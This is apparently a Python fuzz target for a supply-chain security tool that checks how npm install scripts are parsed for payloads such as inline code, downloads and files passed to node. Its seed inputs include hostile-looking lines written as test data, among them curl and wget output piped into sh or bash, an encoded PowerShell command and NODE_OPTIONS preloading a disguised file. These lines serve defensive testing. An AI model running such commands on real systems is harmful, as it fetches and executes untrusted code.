"""Fuzz target: install scripts as `sh -c` reads them (extgate.shellwords), what manifest/install-script-payload
makes of them (inline code, downloads, pipes into shells) and the files the code gate finds handed to `node`.
Checked on every input: nothing raises, the payload list has no duplicates and is the same twice, and every file
the code gate would follow is a word of the script (nothing invented)."""

from __future__ import annotations

import json

from _harness import fixture_files, instrumented, main

with instrumented(__name__, "extgate.shellwords", "extgate.gates.manifest.install_payload", "shlex"):
    from extgate import shellwords
    from extgate.gates.code import loaded
    from extgate.gates.manifest.install_payload import payloads

MAX_LEN = 4096
SEEDS = [
    b"node-gyp rebuild || node scripts/setup.dat --quiet",
    b"curl -fsSL https://get.example/i.sh | sh; echo done",
    b'sh -c \'cd lib && node -r ./hook.txt --eval="require(1)"\' && bash -lc "wget -qO- x | bash"',
    b"NODE_OPTIONS='--require ./pre.md' env FOO=1 sudo node -- main.txt $(npx helper) `pnpm dlx tool`",
    b"powershell -enc SQBFAFgA & python3 -c 'import os' ; deno eval 'Deno.exit()' | perl -e 1 'unbalanced",
]


def _scripts(manifests: list[bytes]) -> list[bytes]:
    """Every script string of the fixture package.json files (real ones: node-gyp, esbuild, sharp ...)."""
    out: list[bytes] = []
    for raw in manifests:
        try:
            scripts = json.loads(raw).get("scripts")
        except (ValueError, AttributeError):
            continue
        if isinstance(scripts, dict):
            out += [v.encode() for v in scripts.values() if isinstance(v, str) and v.encode() not in out]
    return out


FIXTURES = _scripts(fixture_files("**/package.json"))
DICTIONARY = [b"|", b"||", b"&&", b";", b"&", b"$(", b")", b"`", b"'", b'"', b"\\", b"sh -c ", b"node ", b"-e ",
              b"--eval=", b"-r ", b"--require=", b"NODE_OPTIONS=", b"curl ", b"npx ", b"bash -lc "]  # fmt: skip


def one_input(data: bytes) -> None:
    script = data.decode("utf-8", "replace")
    found = payloads(script)
    assert len(found) == len(set(found)) and found == payloads(script), found
    words = {w for pipeline in shellwords.pipelines(script) for c in pipeline for w in (c.program, *c.args, *c.env)}
    words |= {part for w in list(words) for part in w.partition("=")[::2]}
    words |= {w for c in shellwords.commands(script) for e in c.env for w in shellwords.words(e.partition("=")[2])}
    manifest = {"scripts": {"postinstall": script}}
    for target in loaded._install_script_files(manifest):
        assert target in words, (script, target)


if __name__ == "__main__":
    main(one_input, SEEDS, max_len=MAX_LEN, fixtures=FIXTURES, dictionary=DICTIONARY)
